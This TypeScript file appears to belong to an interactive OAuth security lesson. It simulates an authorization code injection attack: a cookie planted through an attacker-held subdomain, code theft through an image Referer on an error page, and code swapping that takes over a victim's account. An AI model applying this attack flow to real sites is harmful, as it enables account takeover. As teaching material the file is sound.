import type { Move } from '../lesson.ts'
import { fieldIn, type Play } from './play.ts'
import { allowed, MoveRefused, type Visitor } from './visitor.ts'

/** What the attacker’s counter keeps: the code of an address at which the shop has shown an error. */
export const codeFromReferer = 'code from a Referer'

/** The link of the attacker’s host below the site’s own, which plants a cookie and goes on to the sign-in. */
export function plantingLinkOf (home: string, query: Record<string, string>): string {
  const { protocol, host, pathname } = new URL(home)
  return `${protocol}//evil.${host}${pathname}plant?${new URLSearchParams(query)}`
}

const link = ({ home }: Play) => plantingLinkOf(home, { cookie: 'browser', next: 'login' })

/** Where somebody is lured to whose code is to be stolen before the shop has redeemed it. */
export const lureOfStolenCode = (play: Play) => ({ text: 'Sign in at the shop to fetch it.', href: link(play) })

/**
 * Code injection: a code that was not redeemed yet is put into the answer to a sign-in of the attacker’s own. It leaks by the `Referer` of
 * a picture on the shop’s error page, which Alice sees as a planted cookie has her browser taken for another.
 *
 * @see https://www.rfc-editor.org/rfc/rfc9700#section-4.5
 */
export const movesOfStolenCode: Move[] = [
  {
    name: 'plant-cookie',
    by: 'mallory',
    says: 'Write a link to the shop’s sign-in that plants a cookie first, so that it ends at an error page',
    async run (play) {
      delete play.scene.state.kept[codeFromReferer]
      play.keep('planted', 'somebody-else')
      play.says('My link leads to a forgotten subdomain of the shop, which I have got hold of. It sets a cookie in place of the shop’s own, and goes on to the sign-in.')
      play.says('The picture on the shop’s error page comes from me. Browsers tell me the address of the page that it is for.')
    }
  },
  {
    name: 'follow-link',
    by: 'alice',
    says: 'Alice follows the link, signs in, and sees an error',
    opens: play => `${play.lair}lure`,
    shownBy: ({ from, endpoint, parameters, status }) => from === 'browser' && endpoint === 'callback' && 'code' in parameters && status === 400,
    async run (play) {
      play.kept('planted')
      const { url } = await play.alice.visit(link(play), { as: 'alice', stopAt: url => url.startsWith(`${play.home}callback`) })
      await openWithPictures(play.alice, url)
    }
  },
  {
    name: 'inject-code',
    by: 'mallory',
    says: 'Sign in as myself, and put Alice’s code in the place of mine',
    async run (play) {
      const code = play.scene.state.kept[codeFromReferer]
      if (code === undefined) throw new MoveRefused('No code has come to my counter.')
      const answer = await play.answerOf(play.mallory, 'mallory')
      answer.searchParams.set('code', code)
      allowed(await play.mallory.open(answer.href))
      const { text } = allowed(await play.mallory.open(`${play.home}account`))
      play.loot('Alice’s account: the shop takes me for her', `${fieldIn(text, 'name')}, ${fieldIn(text, 'email')}`)
      play.says('It was my sign-in, in my browser, with my state. Only the code was hers.')
    }
  }
]

/** Pictures are asked for as a browser with a window asks where the page has the policy `unsafe-url`. */
async function openWithPictures (who: Visitor, url: string): Promise<void> {
  const page = await who.open(url)
  for (const [, src] of page.text.matchAll(/<img src="([^"]+)"/g)) await who.request(src!, { headers: { referer: page.url } })
}
